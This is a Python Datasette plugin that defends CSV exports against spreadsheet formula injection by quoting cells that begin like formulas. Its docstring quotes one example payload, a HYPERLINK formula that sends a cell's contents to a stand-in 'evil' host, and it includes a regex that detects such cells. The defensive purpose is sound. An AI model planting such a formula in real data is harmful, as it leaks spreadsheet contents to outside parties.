"""Datasette's CSV exports with every cell safe to open in a spreadsheet.

Loaded by ``kb serve`` from ``--plugins-dir ingest/site/plugins``. A stored title such as
``=HYPERLINK("http://evil/?"&A1, "click")`` would run as a formula when a ``.csv`` export is
opened in Excel or LibreOffice; each cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (numbers apart) gets a leading single quote (``ingest.records.spreadsheet``).

Datasette writes CSV in its own view (``.csv`` is not an output renderer a plugin can replace),
so this is an ASGI wrapper on ``.csv`` answers: it cuts the streamed body into CSV records (a
record ends at a newline outside quotes), rewrites only the records with a risky cell start
through the csv module, and passes every other byte as it was. It works the same for one page
and for ``_stream=1``, and for whatever Datasette puts in the stream (its error messages too).
JSON and HTML are left alone: they are not opened by spreadsheets.
"""

from __future__ import annotations

import codecs
import csv
import io
import re

from datasette import hookimpl

from ingest.records.spreadsheet import spreadsheet_safe

# A cell that may start like a formula: at the start of a record or after a comma, quoted or not.
# Matches inside quoted cells too; those records are parsed and come out unchanged.
_RISKY_CELL = re.compile(r'(?:^|,)"?[=+\-@\t\r]')
CSV_TYPES = (b"text/plain", b"text/csv")


def is_csv_request(scope: dict) -> bool:
    query = scope.get("query_string", b"")
    return scope.get("path", "").endswith(".csv") or b"_format=csv" in query


def safe_record(record: str) -> str:
    """One CSV record (its line ending included) with every formula-like cell quoted as text."""
    if not _RISKY_CELL.search(record):
        return record
    ending = "\r\n" if record.endswith("\r\n") else "\n" if record.endswith("\n") else ""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n" if ending == "\r\n" else "\n")
    for row in csv.reader(io.StringIO(record, newline="")):
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    text = out.getvalue()
    return text if ending else text.rstrip("\r\n")


class CsvRecords:
    """Text in, whole CSV records out: keeps the part of a record that has not ended yet."""

    def __init__(self):
        self.tail = ""  # after the last newline seen
        self.record: list[str] = []  # lines of a record whose quotes are still open
        self.quotes = 0

    def feed(self, text: str, final: bool = False) -> list[str]:
        lines = (self.tail + text).split("\n")
        self.tail = lines.pop()
        records = []
        for line in lines:
            self.record.append(line + "\n")
            self.quotes += line.count('"')
            if self.quotes % 2 == 0:  # an even number of quotes: no field is left open
                records.append("".join(self.record))
                self.record, self.quotes = [], 0
        if final:
            rest = "".join(self.record) + self.tail
            if rest:
                records.append(rest)
            self.tail, self.record, self.quotes = "", [], 0
        return records


def formula_safe(send):
    """An ASGI ``send`` that rewrites a CSV body's risky cells (other bodies pass untouched)."""
    state = {"csv": False}
    decoder = codecs.getincrementaldecoder("utf-8")("replace")
    records = CsvRecords()

    async def safe_send(event):
        if event["type"] == "http.response.start":
            headers = event.get("headers", [])
            content_type = next((v for k, v in headers if k.lower() == b"content-type"), b"")
            state["csv"] = content_type.startswith(CSV_TYPES)
            if state["csv"]:  # the body changes length
                event = {**event, "headers": [(k, v) for k, v in headers if k.lower() != b"content-length"]}
        elif event["type"] == "http.response.body" and state["csv"]:
            final = not event.get("more_body", False)
            text = decoder.decode(event.get("body", b""), final=final)
            body = "".join(safe_record(r) for r in records.feed(text, final=final))
            event = {**event, "body": body.encode("utf-8")}
        await send(event)

    return safe_send


@hookimpl
def asgi_wrapper(datasette):
    def wrap(app):
        async def csv_safe(scope, receive, send):
            if scope["type"] == "http" and is_csv_request(scope):
                send = formula_safe(send)
            await app(scope, receive, send)

        return csv_safe

    return wrap
